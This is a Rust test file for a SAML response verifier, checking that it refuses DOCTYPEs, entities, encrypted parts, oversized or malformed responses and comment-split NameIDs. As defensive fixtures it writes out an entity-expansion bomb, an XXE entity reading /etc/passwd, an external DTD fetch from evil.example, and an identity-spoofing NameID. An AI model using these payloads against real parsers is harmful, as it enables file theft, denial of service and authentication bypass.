//! Documents: comments, document types, encryption, sizes, and what is no response at all.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use saml::{Rejection, unverified_envelope};

use crate::provider::*;

#[test]
fn a_comment_in_a_name_ends_nothing() {
    let long = changed(ASSERTION, "ada@contoso.com", "ada@contoso.com.evil.example");
    let signed = response(&CONTOSO.sign(&long));
    for divided in [
        "ada@contoso.com<!-- -->.evil.example",
        "<!-- -->ada@contoso.com.evil.example<!---->",
        "ada@contoso.com<![CDATA[.evil]]>.example",
    ] {
        let commented = changed(&signed, "ada@contoso.com.evil.example", divided);
        assert_eq!(verify(&commented).unwrap().name_id, "ada@contoso.com.evil.example", "{divided}");
    }
}

#[test]
fn a_comment_in_an_attribute_ends_nothing() {
    let signed = response(&CONTOSO.sign(ASSERTION));
    let commented = changed(&signed, ">0042<", ">00<!-- a -->42<");
    assert_eq!(verify(&commented).unwrap().value("EmployeeID"), Some("0042"));
}

#[test]
fn a_processing_instruction_or_an_element_in_a_name_is_refused() {
    for divided in ["ada@contoso.com<?x y?>.evil.example", "ada@contoso.com<saml:b/>.evil.example"] {
        let result = verify_signed(&changed(ASSERTION, "ada@contoso.com", divided));
        assert_eq!(result, Err(Rejection::Malformed("the NameID is not text")), "{divided}");
    }
}

#[test]
fn document_types_and_entities_are_refused_before_parsing() {
    let signed = response(&CONTOSO.sign(ASSERTION));
    let bomb = r#"<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>"#;
    let outside = r#"<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>"#;
    let parameter = r#"<!DOCTYPE a [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]>"#;
    let default = r#"<!DOCTYPE a [<!ATTLIST samlp:Response ID CDATA "_evil">]>"#;
    for document_type in
        [bomb, outside, parameter, default, "<!DOCTYPE a>", "<!doctype a>", "<!ENTITY a 'b'>"]
    {
        assert_eq!(
            verify(&format!("{document_type}{signed}")),
            Err(Rejection::DocumentType),
            "{document_type}"
        );
        let declared = format!("<?xml version=\"1.0\"?>\n{document_type}{signed}");
        assert_eq!(verify(&declared), Err(Rejection::DocumentType));
        assert!(unverified_envelope(&STANDARD.encode(&declared)).is_err());
    }
}

#[test]
fn entities_that_nobody_defined_are_refused() {
    let signed = changed(&response(&CONTOSO.sign(ASSERTION)), "ada@", "&ada;@");
    assert!(matches!(verify(&signed), Err(Rejection::Xml(_))));
}

#[test]
fn encryption_is_refused_with_what_to_do() {
    let encrypted =
        response("<saml:EncryptedAssertion xmlns:saml=\"urn:oasis:names:tc:SAML:2.0:assertion\"/>");
    let refused = verify(&encrypted).unwrap_err();
    assert_eq!(refused, Rejection::Encrypted("the assertion"));
    assert!(refused.to_string().contains("not supported yet; turn off assertion encryption"), "{refused}");

    let (start, end) =
        (ASSERTION.find("<saml:NameID").unwrap(), ASSERTION.find("</saml:NameID>").unwrap() + 14);
    let name = changed(ASSERTION, &ASSERTION[start..end], "<saml:EncryptedID/>");
    assert_eq!(verify_signed(&name), Err(Rejection::Encrypted("the user's name")));
    let attribute = changed(
        ASSERTION,
        "</saml:AttributeStatement>",
        "<saml:EncryptedAttribute/></saml:AttributeStatement>",
    );
    assert_eq!(verify_signed(&attribute), Err(Rejection::Encrypted("an attribute")));
}

#[test]
fn several_assertions_and_none_are_refused() {
    let other = changed(ASSERTION, "\"_assertion\"", "\"_other\"");
    let both = CONTOSO.sign(&response(&(CONTOSO.sign(ASSERTION) + &CONTOSO.sign(&other))));
    assert_eq!(verify(&both), Err(Rejection::SeveralAssertions));
    assert_eq!(verify(&CONTOSO.sign(&response(""))), Err(Rejection::NoAssertion));
}

#[test]
fn what_is_no_response_is_refused() {
    let cases = [
        ("", "can't be read as XML"),
        ("SAML", "can't be read as XML"),
        ("<html><body>Sign in</body></html>", "it is no Response"),
        ("<Response Version=\"2.0\"/>", "it is no Response"),
        (
            "<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:1.0:protocol\" Version=\"2.0\"/>",
            "it is no Response",
        ),
        ("<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\"/>", "its Version is not 2.0"),
        ("<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\" Version=\"2.0\"/>", "Status"),
        (ASSERTION, "it is no Response"),
    ];
    for (xml, message) in cases {
        let refused = verify(xml).unwrap_err().to_string();
        assert!(refused.contains(message), "{xml}: {refused}");
    }
}

#[test]
fn only_base64_of_utf8_is_read() {
    assert_eq!(unverified_envelope("<samlp:Response/>"), Err(Rejection::Encoding));
    assert_eq!(unverified_envelope(&STANDARD.encode([0xff, 0xfe, b'<'])), Err(Rejection::Encoding));
    let lines: String = STANDARD
        .encode(response(ASSERTION))
        .as_bytes()
        .chunks(76)
        .map(|line| format!("{}\r\n", String::from_utf8_lossy(line)))
        .collect();
    unverified_envelope(&lines).unwrap();
}

#[test]
fn the_envelope_tells_what_it_answers_without_being_believed() {
    let envelope = unverified_envelope(&STANDARD.encode(response(ASSERTION))).unwrap();
    assert_eq!(envelope.in_response_to.as_deref(), Some("_request"));
    assert_eq!(envelope.issuer.as_deref(), Some(ISSUER));
}

#[test]
fn responses_have_a_size() {
    let value = "x".repeat(saml::limits::MAX_RESPONSE_BYTES);
    assert_eq!(verify_signed(&changed(ASSERTION, ">0042<", &format!(">{value}<"))), Err(Rejection::TooLong));
}

#[test]
fn elements_have_a_depth_and_a_number() {
    let depth = saml::limits::MAX_DEPTH as usize;
    let deep = format!("{}{}", "<a>".repeat(depth), "</a>".repeat(depth));
    let result = verify(&changed(&response(ASSERTION), "<samlp:Status>", &format!("{deep}<samlp:Status>")));
    assert!(matches!(result, Err(Rejection::Xml(_))), "{result:?}");
    let many = "<a/>".repeat(2 * saml::limits::MAX_ELEMENTS);
    let result = verify(&changed(&response(ASSERTION), "<samlp:Status>", &format!("{many}<samlp:Status>")));
    assert_eq!(result, Err(Rejection::Xml("it has too many elements".to_owned())));
}

#[test]
fn elements_have_a_number_of_attributes() {
    let with = |count: usize| {
        let attributes: String = (0..count).map(|n| format!(" xmlns:a{n}=\"urn:a\"")).collect();
        verify(&changed(
            &response(&CONTOSO.sign(ASSERTION)),
            "<samlp:Status>",
            &format!("<samlp:Status{attributes}>"),
        ))
    };
    with(saml::limits::MAX_ELEMENT_ATTRIBUTES).unwrap();
    let refused = with(saml::limits::MAX_ELEMENT_ATTRIBUTES + 1);
    assert_eq!(refused, Err(Rejection::Xml("an element has too many attributes".to_owned())));
}

#[test]
fn attributes_and_their_values_have_a_number() {
    let end = "</saml:AttributeStatement>";
    let with = |more: String| verify_signed(&changed(ASSERTION, end, &format!("{more}{end}")));
    let attribute = "<saml:Attribute Name=\"a\"/>";
    assert_eq!(
        with(attribute.repeat(saml::limits::MAX_ATTRIBUTES - 2)).unwrap().attributes.len(),
        saml::limits::MAX_ATTRIBUTES
    );
    assert_eq!(with(attribute.repeat(saml::limits::MAX_ATTRIBUTES - 1)), Err(Rejection::TooManyAttributes));
    let values = |count: usize| {
        format!(
            "<saml:Attribute Name=\"groups\">{}</saml:Attribute>",
            "<saml:AttributeValue>g</saml:AttributeValue>".repeat(count)
        )
    };
    with(values(saml::limits::MAX_ATTRIBUTE_VALUES - 2)).unwrap();
    assert_eq!(with(values(saml::limits::MAX_ATTRIBUTE_VALUES - 1)), Err(Rejection::TooManyAttributes));
}

#[test]
fn what_a_provider_refuses_is_told_in_its_words() {
    let refusal = |codes: &str| {
        let success = r#"<samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/>"#;
        verify(&changed(&response(""), success, codes)).unwrap_err()
    };
    let nested = refusal(concat!(
        r#"<samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Responder">"#,
        r#"<samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:AuthnFailed"/></samlp:StatusCode>"#,
        "<samlp:StatusMessage>AADSTS50105: not\u{1b}assigned</samlp:StatusMessage>",
    ).replace('\u{1b}', "\n").as_str());
    assert_eq!(
        nested.to_string(),
        "the provider did not sign the user in: Responder: AuthnFailed (AADSTS50105: not assigned); its sign-in log tells more"
    );

    let long = format!(
        r#"<samlp:StatusCode Value="urn:x"/><samlp:StatusMessage>{}</samlp:StatusMessage>"#,
        "m".repeat(5000)
    );
    let Rejection::Status { code, message } = refusal(&long) else { panic!("a status") };
    assert_eq!((code.as_str(), message.unwrap().chars().count()), ("urn:x", 201));
    assert!(matches!(
        refusal(r#"<samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:success"/>"#),
        Rejection::Status { .. }
    ));
}
